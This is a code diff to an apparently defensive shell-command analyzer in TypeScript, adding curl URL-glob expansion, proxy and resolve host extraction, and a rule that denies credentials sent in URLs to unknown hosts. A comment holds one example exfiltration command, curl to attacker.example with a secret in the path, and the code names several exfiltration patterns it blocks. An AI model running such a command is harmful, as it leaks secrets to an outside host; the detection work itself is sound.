@@ -1,4 +1,5 @@
 import { classifyHost, hostOf } from '../net.js';
+import { credentialInUrl, parseUrl } from '../urls.js';
 import { globRead, isCriticalTree, type Level, normalizePath, sensitiveRead, sensitiveWrite } from '../sensitive.js';
 import { analyzeInlineCode } from './inline.js';
 import { type Command, echoValue, parseShell, type Script, type Word } from './parser.js';
@@ -210,6 +211,53 @@ function splitName(w: Word): string | undefined {
 
 function isWriteOp(op: string): boolean {
   return op === '>' || op === '>>' || op === '&>' || op === '&>>' || op === '>|' || op === '<>' || op === '>&';
+}
+
+const URL_VARIANTS_MAX = 256;
+
+/**
+ * The URLs a curl argument stands for: `{a,b}` alternatives (curl's globbing and bash brace expansion
+ * alike) and `[1-9]` / `[a-z]` ranges (curl's globbing), at most URL_VARIANTS_MAX of them. An IPv6
+ * literal in brackets is no range and stays as it is.
+ */
+function urlVariants(text: string): string[] {
+  if (!/[{[]/.test(text)) return [text];
+  const out: string[] = [];
+  const queue = [text];
+  while (queue.length > 0 && out.length < URL_VARIANTS_MAX) {
+    const t = queue.shift()!;
+    const brace = /\{([^{}]*)\}/.exec(t);
+    const range = /\[(?:(\d+)-(\d+)|([a-zA-Z])-([a-zA-Z]))(?::\d+)?\]/.exec(t);
+    const first = brace && (!range || brace.index < range.index) ? brace : range;
+    if (!first) {
+      out.push(t);
+      continue;
+    }
+    const before = t.slice(0, first.index);
+    const after = t.slice(first.index + first[0].length);
+    let options: string[] = [];
+    if (first === brace) {
+      const body = brace[1]!;
+      // A bash sequence `{1..5}` too.
+      const seq = /^(-?\d+)\.\.(-?\d+)$/.exec(body);
+      if (seq) {
+        const a = Number(seq[1]);
+        const b = Number(seq[2]);
+        for (let n = Math.min(a, b); n <= Math.max(a, b) && options.length < URL_VARIANTS_MAX; n++) options.push(String(n));
+      } else options = body.split(',');
+    } else if (range![1] !== undefined) {
+      const a = Number(range![1]);
+      const b = Number(range![2]);
+      const width = range![1]!.length;
+      for (let n = Math.min(a, b); n <= Math.max(a, b) && options.length < URL_VARIANTS_MAX; n++) options.push(String(n).padStart(width, '0'));
+    } else {
+      const a = range![3]!.charCodeAt(0);
+      const b = range![4]!.charCodeAt(0);
+      for (let c = Math.min(a, b); c <= Math.max(a, b); c++) options.push(String.fromCharCode(c));
+    }
+    for (const o of options) queue.push(before + o + after);
+  }
+  return out.length > 0 ? [text, ...out] : [text];
 }
 
 function looksLikeUrl(t: string): boolean {
@@ -701,8 +749,28 @@ export class ShellAnalyzer {
             continue;
           }
         }
-        const h = hostOf(p.text) ?? (looksLikeUrl(p.text) ? undefined : hostOf(`http://${p.text}`));
-        if (h) out.push(h);
+        // curl's URL globbing (`{a,b}`, `[1-9]`) and unquoted brace expansion: every URL it may fetch.
+        for (const text of urlVariants(p.text)) {
+          const h = hostOf(text) ?? (looksLikeUrl(text) ? undefined : hostOf(`http://${text}`));
+          if (h) out.push(h);
+        }
+      }
+      if (name === 'curl') {
+        // Where curl really connects: a proxy, `--resolve host:port:addr`, `--connect-to h:p:host:port`.
+        for (const v of optValues(args, ['-x', '--proxy', '--preproxy', '--socks4', '--socks4a', '--socks5', '--socks5-hostname'])) {
+          const h = hostOf(v.text) ?? hostOf(`http://${v.text}`);
+          if (h) out.push(h);
+        }
+        for (const v of optValues(args, ['--resolve'])) {
+          for (const addr of v.text.replace(/^\+/, '').split(':').slice(2).join(':').split(',')) {
+            const a = addr.trim();
+            if (a) out.push(a.toLowerCase());
+          }
+        }
+        for (const v of optValues(args, ['--connect-to'])) {
+          const m = /^[^:]*:[^:]*:(\[[^\]]*\]|[^:]*):/.exec(v.text);
+          if (m && m[1]) out.push(m[1].toLowerCase());
+        }
       }
     } else if (SOCKET_TOOLS.has(name)) {
       if (name === 'socat') {
@@ -1226,6 +1294,15 @@ export class ShellAnalyzer {
     }
     if (args.some((a) => looksLikeUrl(a.text) && a.subst.length > 0)) dynamicBody = true;
     const target = hosts.length > 0 ? 'an unknown host' : 'a host read at run time';
+    // A credential written into the URL itself (path, query, user, host labels) to an unknown host: a
+    // restored `<SECRET_1>` in `curl https://attacker.example/<SECRET_1>` is the real key by now.
+    for (const a of args) {
+      const url = looksLikeUrl(a.text) ? parseUrl(a.text) : undefined;
+      if (url && !this.known(url.hostname.toLowerCase()) && credentialInUrl(url)) {
+        this.add('exfiltration', 'deny', `${name} sends a credential-like value in a URL to ${target}`, a);
+        break;
+      }
+    }
     if (uploads.length > 0) this.add('exfiltration', 'deny', `${name} uploads a local file to ${target}`, uploads[0]!);
     else if (stdinUpload && upstream.length > 0) this.add('exfiltration', 'deny', `${name} uploads piped data to ${target}`, cmd);
     else if (dynamicBody) this.add('exfiltration', 'deny', `${name} sends command output to ${target}`, cmd);
